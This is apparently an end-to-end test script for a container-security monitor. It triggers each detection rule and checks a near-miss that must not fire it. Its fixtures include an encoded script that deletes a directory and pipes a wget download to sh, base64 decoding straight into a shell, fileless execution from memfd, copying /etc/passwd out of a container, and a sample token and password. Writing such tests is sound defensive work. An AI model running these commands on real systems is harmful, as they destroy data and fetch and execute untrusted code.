#!/bin/bash
# rules.sh: rules that no other script drives, each with the nearest run that must not fire it: one property changed.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
engine_up
base=invigil/base:1

hit() { # RULE WHAT COMMAND: one alert
	run -- sh -c "$3" >"$work/out" 2>&1
	see "$1: $2" "len(alerts('$1')) == 1"
}
miss() { # RULE WHAT WITNESS COMMAND: none, and WITNESS, an expression, says that COMMAND did its work
	run -- sh -c "$4" >"$work/out" 2>&1
	see "$1, near miss: $2" "not alerts('$1') and $3"
}
created() { echo "[get(e, 'http.response.status_code') for e in action('container-create')] == [201]"; }

# ---- host ----
cp /bin/true "$work/copy"
from_memory() { echo "import os; fd = $1; os.execve(fd, ['true', 'as-fd'], {})"; }
hit R3.10 "a program in anonymous memory" \
	"exec /usr/bin/python3 -c \"$(from_memory "os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read())")\""
miss R3.10 "the same by a descriptor of a file" "['true', 'as-fd'] in args('copy')" \
	"exec /usr/bin/python3 -c \"$(from_memory "os.open('$work/copy', os.O_RDONLY)")\""
hit R3.10 "a program that was deleted before" \
	"cp /bin/true '$work/gone'; exec /usr/bin/python3 -c \"$(from_memory "os.open('$work/gone', os.O_RDONLY); os.unlink('$work/gone')")\""

run --gate=off -- true
see "R0.2: without a gate first reads may be missed" 'alerts("R0.2") and gap("switched off")'
run -- true
see "R0.2, near miss: with one" 'not alerts("R0.2") and not alerts("R0.1") and not alerts("R0.3") and not alerts("R0.4")'
see "R0.5, near miss: nothing is done to the monitor" 'not alerts("R0.5") and execs("true")'

# ---- engine ----
mkdir "$work/plain"
docker create --name foreign-1 $base true >/dev/null
docker volume create foreign-v >/dev/null
docker tag $base registry.example.org/base:1
docker tag $base 127.0.0.1:5000/base:1

hit R6.15 "a mount shared with the host" "docker create -v '$work/plain:/h:shared' $base true"
miss R6.15 "one that is not" "$(created)" "docker create -v '$work/plain:/h:private' $base true"
hit R6.15 "an update that lifts a limit" \
	"docker create --pids-limit 50 --name update-1 $base true; docker update --pids-limit -1 update-1"
miss R6.15 "one that sets another" "action('container-update')" \
	"docker create --pids-limit 50 --name update-2 $base true; docker update --pids-limit 60 update-2"

hit R7.4 "the inspection of a foreign container" "docker inspect --type container foreign-1"
miss R7.4 "of its own" "action('container-inspect')" \
	"docker create --name own-1 $base true; docker inspect --type container own-1"
hit R7.4 "of a foreign volume" "docker volume inspect foreign-v"
miss R7.4 "a list that shows both" "action('container-list') and action('volume-list')" "docker ps -a; docker volume ls"

put="echo x >'$work/plain/x'"
own="docker create --name own-2 $base true"
hit R8.3 "a file that is copied into a foreign container" "$put; docker cp '$work/plain/x' foreign-1:/x"
miss R8.3 "into its own" "action('container-archive-put')" "$put; $own; docker cp '$work/plain/x' own-2:/x; docker rm own-2"
hit R8.3 "out of a foreign container" "docker cp foreign-1:/etc/passwd - | tar -t"
miss R8.3 "out of its own" "action('container-archive-get')" "$own; docker cp own-2:/etc/passwd - | tar -t; docker rm own-2"

built() { echo "echo FROM $1 | docker build -q -"; }
hit R8.5 "a build from an image of a registry that is not allowed" "$(built registry.example.org/base:1)"
miss R8.5 "of one on loopback" "action('image-build')" "$(built 127.0.0.1:5000/base:1)"
hit R8.5 "a container of an image of such a registry, though it is here already" "docker create registry.example.org/base:1 true"
miss R8.5 "of one on loopback" "$(created)" "docker create 127.0.0.1:5000/base:1 true"
miss R8.5 "of one that the run built under such a name" "$(created)" \
	"printf 'FROM $base\nLABEL a=b\n' | docker build -q -t registry.example.org/mine:1 - && docker create registry.example.org/mine:1 true"
posted() { echo "curl -s --unix-socket '$engine/docker.sock' -X POST 'http://localhost/build?$1=http://127.0.0.1:1/context.tar'"; }
hit R8.5 "a build whose context is a URL" "$(posted remote)"
miss R8.5 "another parameter with one" "action('image-build')" "$(posted t)"

hit R8.8 "root by its number" "docker create -u 0:1000 $base true"
miss R8.8 "another user" "$(created)" "docker create -u 1000:0 $base true"
hit R8.8 "a shell as entry point" "docker create --entrypoint /bin/sh $base -c true"
miss R8.8 "a shell as the command" "$(created)" "docker create $base /bin/sh -c true"
miss R8.8 "another program as entry point" "$(created)" "docker create --entrypoint /bin/true $base"

in_own() { echo "docker run -d --name own-$1 $base sleep 60; docker exec $2 own-$1 true; docker rm -f own-$1"; }
executed() { echo "[get(e, 'http.response.status_code') in (101, 200) for e in action('exec-start')] == [True]"; }
hit R8.8 "a command executed as root" "$(in_own 1 "-u root")"
miss R8.8 "as another user" "$(executed)" "$(in_own 2 "-u nobody")"
miss R8.8 "as whom the image says, which may be root" "$(executed)" "$(in_own 3 "")"

# ---- encoded data in the commands of containers and execs: in a body that no argument shows ----
script=$(printf '#!/bin/sh\nrm -rf /srv/old\nwget -q http://127.0.0.1:1/next -O - | sh\n' | base64 -w 0)
letter=$(printf 'Dear reader, here is a letter in two lines,\nand nothing that anybody could execute.\n' | base64 -w 0)
digest=$(printf x | sha256sum | cut -c1-64)
given() { # PATH COMMAND: "a", "b": one request
	printf '{"Image":"%s","Cmd":[%s]}' $base "$2" >"$work/body"
	run -- sh -c "docker run -d --name taker --network none $base sleep 300; curl -s --unix-socket '$engine/docker.sock' -H 'Content-Type: application/json' -d '@$work/body' http://localhost/$1; docker rm -f taker" >"$work/out" 2>&1
}
for place in "containers/create|a container command|container-create" "containers/taker/exec|an exec command|exec-create"; do
	IFS='|' read -r path words action <<<"$place"
	about() { echo "['$words' in get(e, 'invigil.evidence') for e in alerts('$1')] == [True]"; }
	done_so="[get(e, 'http.response.status_code') for e in action('$action')][-1:] == [201]"
	given "$path" "\"true\",\"$script\""
	see "R2.2: a script in base64 in $words" "$done_so and $(about R2.2)"
	given "$path" "\"true\",\"$letter\""
	see "R2.2, near miss: a letter in it is R2.1" "$done_so and $(about R2.1) and not alerts('R2.2')"
	given "$path" "\"true\",\"$digest\""
	see "R2.1, near miss: a digest in it" "$done_so and not alerts('R2.1') and not alerts('R2.2')"
	given "$path" "\"sh\",\"-c\",\"echo $letter | base64 -d | sh\""
	see "R2.3: $words decodes into a shell" "$done_so and len(alerts('R2.3')) == 1"
	given "$path" "\"sh\",\"-c\",\"echo $letter | base64 -d | cat\""
	see "R2.3, near miss: into none" "$done_so and not alerts('R2.3')"
	given "$path" "\"sh\",\"-c\",\"echo $letter | base64 -d >/x; chmod 755 /x\""
	see "R2.4: $words makes what it decodes executable" "$done_so and len(alerts('R2.4')) == 1"
	given "$path" "\"sh\",\"-c\",\"echo $letter | base64 -d >/x; chmod 644 /x\""
	see "R2.4, near miss: it does not" "$done_so and not alerts('R2.4')"
done

# A host name of our own, in a UTS namespace.
named() { # NAME, and options
	rm -f "$ev"
	# shellcheck disable=SC2086
	unshare -u sh -c 'hostname buildrunner7; exec "$@"' - timeout 60 "$invigil" run -q -o "$ev" -- \
		docker create --name $1 $base true >"$work/out" 2>&1
}
named web-buildrunner7
see "R7.2: the runner's host name in the name of a container" \
	'len(alerts("R7.2")) == 1 and "host name" in get(alerts("R7.2")[0], "invigil.evidence")'
named web-buildrunner70
see "R7.2, near miss: as a part of a word" "not alerts('R7.2') and $(created)"
docker network create others-n >/dev/null
for place in "host name|-h at-NAME" "label|--label at=NAME" "link alias|--link foreign-1:NAME" "alias|--network others-n --network-alias at-NAME"; do
	IFS='|' read -r what options <<<"$place"
	named "named-$RANDOM ${options//NAME/buildrunner7}"
	see "R7.2: in its $what" "$(created) and ['$what' in get(e, 'invigil.evidence') for e in alerts('R7.2')] == [True]"
	named "named-$RANDOM ${options//NAME/buildrunner70}"
	see "R7.2, near miss: in its $what a part of a word" "$(created) and not alerts('R7.2')"
done

# ---- credentials and internal domains in names ----
token=_16C7e42F292c6912E7710c838347Ae178B4a
hit R7.3 "a token in the name of a container" "docker create --name x-ghp$token $base true"
see "it is shown nowhere" "'16C7e42F292c' not in json.dumps(ev)"
miss R7.3 "a name as long" "$(created)" "docker create --name x-abc$token $base true"
pulled() { echo "curl -s --unix-socket '$engine/docker.sock' -X POST 'http://localhost/images/create?tag=1&fromImage=$1'"; }
hit R7.3 "a password in the reference of an image" "$(pulled joe:hunter2-is-long@127.0.0.1:1/x)"
miss R7.3 "a port in one" "action('image-pull')" "$(pulled 127.0.0.1:1/x)"
for kind in network volume; do
	hit R7.5 "a $kind whose name has an internal domain" "docker $kind create db.corp"
	miss R7.5 "a $kind whose name has another" "action('$kind-create')" "docker $kind create db.corporate"
done
finish
